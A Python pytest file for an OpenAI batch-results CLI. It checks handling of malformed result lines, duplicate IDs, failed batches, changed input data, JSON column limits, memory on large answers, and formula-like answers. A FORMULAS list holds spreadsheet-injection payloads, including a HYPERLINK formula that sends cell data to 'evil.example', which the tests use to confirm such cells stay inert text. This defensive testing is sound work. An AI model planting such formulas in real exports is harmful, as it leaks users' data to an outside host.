"""Results that used to crash or mislead (issue 14), against the strict fake: odd result lines,
repeated custom_ids, failed batches, stale tables, data edited behind an old mtime, JSON answers
with ever new keys, long answers, and formulas in answers."""

from __future__ import annotations

import json
import os
import tracemalloc
from pathlib import Path
from typing import Any

import pytest

from fake_openai import ODD_RESULT_KINDS, FakeOpenAI, chat_completion_body, odd_result_line
from helpers import assert_clean_error, read_csv, run_cli
from openai_batch.results import answerstore
from openai_batch.results.join import ANSWER_BYTES, MAX_JSON_COLUMNS, write_csv
from openai_batch.results.merge import ResultIndex

Capsys = pytest.CaptureFixture[str]
WAIT = ("--wait", "--poll-interval", "0")
TEMPLATE = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "<<Name>>"}]}


@pytest.fixture
def fake(fake_api: FakeOpenAI, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> FakeOpenAI:
    monkeypatch.chdir(tmp_path)
    Path("t.json").write_text(json.dumps(TEMPLATE), encoding="utf-8")
    return fake_api


def make(capsys: Capsys, rows: int, data: str = "d.csv") -> None:
    Path(data).write_text("Name\n" + "".join(f"n{i}\n" for i in range(rows)), encoding="utf-8")
    code, _, err = run_cli(capsys, "make-batch-file", "t.json", data, "-o", "r.jsonl", "-q")
    assert code == 0, err


def results(capsys: Capsys, *extra: str) -> tuple[int, str, str]:
    return run_cli(capsys, "get-batch-results", "r.jsonl", "--csv", "out.csv", *WAIT, *extra)


def answer_with(content_of: Any) -> Any:
    """A responder whose answer text for a request is content_of(custom_id)."""

    def respond(line: dict[str, Any]) -> tuple[int, dict[str, Any]]:
        body = line["body"]
        return 200, chat_completion_body(body["model"], content_of(line["custom_id"]))

    return respond


# ---------------------------------------------------------------------------------------------
# Odd but valid JSON


@pytest.mark.parametrize("kind", ODD_RESULT_KINDS)
def test_an_odd_result_line_is_that_rows_error_and_the_rest_is_written(
    fake: FakeOpenAI, capsys: Capsys, kind: str
) -> None:
    make(capsys, 4)
    fake.odd_results["id_2"] = odd_result_line("id_2", kind)
    assert run_cli(capsys, "start-batch", "r.jsonl")[0] == 0
    for attempt in range(2):  # the bad file stays cached: the re-run must not crash either
        code, out, err = results(capsys)
        assert code == 4, (attempt, out, err)
        assert "Traceback" not in err
        rows = read_csv(Path("out.csv"))
        assert [r["status"] for r in rows] == ["ok", "ok", "error", "ok"]
        assert rows[2]["error"].startswith("malformed_result: "), rows[2]["error"]
        assert rows[3]["content"].endswith("n3")
        assert "1 result line not a readable answer" in err
        lines = Path("batch-responses.jsonl").read_bytes().split(b"\n")
        assert len(lines) == 5 and lines[2] == odd_result_line("id_2", kind).encode()
    assert "utils retry-failed" in err
    code, out, err = run_cli(capsys, "utils", "retry-failed", "r.jsonl", "-o", "retry.jsonl")
    assert code == 0, err
    retried = Path("retry.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(x)["custom_id"] for x in retried] == ["id_2"]


def test_a_custom_id_answered_twice_is_named(fake: FakeOpenAI, capsys: Capsys) -> None:
    make(capsys, 3)
    fake.duplicate_results.add("id_1")
    assert run_cli(capsys, "start-batch", "r.jsonl")[0] == 0
    code, _, err = results(capsys)
    assert code == 0, err
    assert "answered more than once by one batch: id_1 (2 times in " in err
    assert len(read_csv(Path("out.csv"))) == 3


# ---------------------------------------------------------------------------------------------
# Failed batches


def test_a_failed_batch_with_answers_exits_4(fake: FakeOpenAI, capsys: Capsys) -> None:
    make(capsys, 3)
    assert run_cli(capsys, "start-batch", "r.jsonl")[0] == 0
    (batch_id,) = fake.batches
    fake.finish(batch_id)
    fake.auto_advance = False
    fake.batches[batch_id].status = "failed"
    code, out, err = results(capsys)
    assert code == 4, (out, err)
    assert "FAILED" in out and "nothing was run" not in out and "some requests ran" in out
    assert [r["status"] for r in read_csv(Path("out.csv"))] == ["ok"] * 3


def test_a_batch_failing_validation_replaces_an_older_table(
    fake: FakeOpenAI, capsys: Capsys
) -> None:
    make(capsys, 3)
    Path("out.csv").write_text("Name,status\nn0,ok\n", encoding="utf-8")  # an earlier run's
    fake.plan(outcome="failed")
    assert run_cli(capsys, "start-batch", "r.jsonl")[0] == 0
    code, out, err = results(capsys)
    assert code == 4, (out, err)
    rows = read_csv(Path("out.csv"))
    assert [(r["Name"], r["status"]) for r in rows] == [(f"n{i}", "missing") for i in range(3)]


# ---------------------------------------------------------------------------------------------
# Changed data


def test_rows_reordered_behind_the_old_mtime_are_refused(fake: FakeOpenAI, capsys: Capsys) -> None:
    make(capsys, 5)
    assert run_cli(capsys, "start-batch", "r.jsonl")[0] == 0
    data = Path("d.csv")
    before = data.stat()
    data.write_text("Name\n" + "".join(f"n{i}\n" for i in (1, 0, 2, 3, 4)), encoding="utf-8")
    os.utime(data, ns=(before.st_atime_ns, before.st_mtime_ns))  # touch -r / cp -p / rsync -t
    assert data.stat().st_size == before.st_size
    code, _, err = results(capsys)
    assert_clean_error(code, err, "d.csv changed since the request file was made")
    assert not Path("out.csv").exists()


# ---------------------------------------------------------------------------------------------
# JSON answers


def test_json_answers_with_ever_new_keys_make_only_the_common_columns(
    fake: FakeOpenAI, capsys: Capsys
) -> None:
    make(capsys, 60)

    def content(custom_id: str) -> str:
        n = int(custom_id.removeprefix("id_"))
        return json.dumps({"label": "x", **{f"k{n}_{j}": j for j in range(20)}})

    fake.responder = answer_with(content)
    assert run_cli(capsys, "start-batch", "r.jsonl")[0] == 0
    code, out, err = results(capsys)
    assert code == 0, err
    header = Path("out.csv").read_text(encoding="utf-8").split("\n", 1)[0].split(",")
    assert header[-1] == "label" and len(header) == 1 + 8 + 1
    assert "1,201 different keys: columns for the 1 that at least 10% of them share" in err + out


def test_json_columns_come_from_the_response_schema(fake: FakeOpenAI, capsys: Capsys) -> None:
    schema = {
        "type": "object",
        "properties": {"score": {"type": "integer"}, "why": {"type": "string"}},
        "required": ["score", "why"],
        "additionalProperties": False,
    }
    template = {
        **TEMPLATE,
        "response_format": {
            "type": "json_schema",
            "json_schema": {"name": "a", "schema": schema, "strict": True},
        },
    }
    Path("t.json").write_text(json.dumps(template), encoding="utf-8")
    make(capsys, 3)
    assert run_cli(capsys, "start-batch", "r.jsonl")[0] == 0
    code, _, err = run_cli(capsys, "get-batch-results", "r.jsonl", "--table", "out.parquet", *WAIT)
    assert code == 0, err
    import pyarrow.parquet as pq

    table = pq.read_table("out.parquet")
    assert table.column_names[-2:] == ["score", "why"]
    assert str(table.schema.field("score").type) == "int64"
    assert str(table.schema.field("prompt_tokens").type) == "int64"


def test_many_json_keys_are_capped(tmp_path: Path) -> None:
    line = {
        "custom_id": "id_0",
        "response": {
            "status_code": 200,
            "body": chat_completion_body("m", json.dumps({f"k{i}": i for i in range(500)})),
        },
        "error": None,
    }
    path = tmp_path / "o.jsonl"
    path.write_text(json.dumps(line) + "\n", encoding="utf-8")
    index = ResultIndex()
    index.add_file(path, 0)
    summary = write_csv(index, tmp_path / "t.csv")
    index.close()
    assert len(summary.columns) == 8 + MAX_JSON_COLUMNS
    assert "500 different keys" in summary.notes[0]


# ---------------------------------------------------------------------------------------------
# Long answers


def test_memory_does_not_grow_with_answer_size_times_rows(tmp_path: Path) -> None:
    """100 answers of 1 MB: the table reads them a few at a time (it used to hold ~4x each
    chunk's answers, 400 MB here); holding them all would be 100 MB. What stays is bounded:
    the blobs the answer store keeps read (CACHE_BYTES) and one part of a block's answers."""
    big = "x" * 1_000_000
    data = tmp_path / "d.csv"
    data.write_text("Name\n" + "".join(f"n{i}\n" for i in range(100)), encoding="utf-8")
    out = tmp_path / "o.jsonl"
    with open(out, "w", encoding="utf-8") as fh:
        for i in range(100):
            body = chat_completion_body("m", big)
            response = {"status_code": 200, "body": body}
            fh.write(json.dumps({"custom_id": f"id_{i}", "response": response}) + "\n")
    from openai_batch.requestfile.make import iter_identified_chunks

    index = ResultIndex()
    index.add_file(out, 0)
    list(iter_identified_chunks(data))  # modules imported before measuring: only the rows count
    assert len(index) == 100
    tracemalloc.start()
    try:
        write_csv(index, tmp_path / "t.csv", chunks=iter_identified_chunks(data))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
        index.close()
    assert peak < answerstore.CACHE_BYTES + ANSWER_BYTES + 3_000_000, peak
    assert (tmp_path / "t.csv").stat().st_size > 100_000_000


# ---------------------------------------------------------------------------------------------
# Formulas


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "@SUM(1,1)", "-2+3"]


def test_formula_like_answers_are_counted_and_xlsx_keeps_them_text(
    fake: FakeOpenAI, capsys: Capsys
) -> None:
    make(capsys, 6)
    fake.responder = answer_with(
        lambda cid: [*FORMULAS, "-5", "plain"][int(cid.removeprefix("id_"))]
    )
    assert run_cli(capsys, "start-batch", "r.jsonl")[0] == 0
    code, _, err = results(capsys)
    assert code == 0, err
    assert "4 result cells in out.csv starting with = + - @" in err
    assert "--table out.xlsx" in err
    rows = read_csv(Path("out.csv"))
    assert [r["content"] for r in rows[:4]] == FORMULAS  # data is never changed

    code, _, err = run_cli(capsys, "get-batch-results", "r.jsonl", "--table", "out.xlsx", *WAIT)
    assert code == 0, err
    from openpyxl import load_workbook

    sheet = load_workbook("out.xlsx").active
    header = [c.value for c in sheet[1]]
    content = header.index("content") + 1
    cells = [sheet.cell(row=r, column=content) for r in range(2, 8)]
    assert [c.value for c in cells] == [*FORMULAS, "-5", "plain"]
    assert all(c.data_type == "s" for c in cells)


def test_table_and_csv_together_are_refused(fake: FakeOpenAI, capsys: Capsys) -> None:
    code, _, err = run_cli(
        capsys, "get-batch-results", "batch_x", "--csv", "a.csv", "--table", "b.xlsx"
    )
    assert_clean_error(code, err, "either --csv or --table")
    code, _, err = run_cli(capsys, "get-batch-results", "batch_x", "--table", "b.ods")
    assert_clean_error(code, err, "unknown table format", ".parquet")
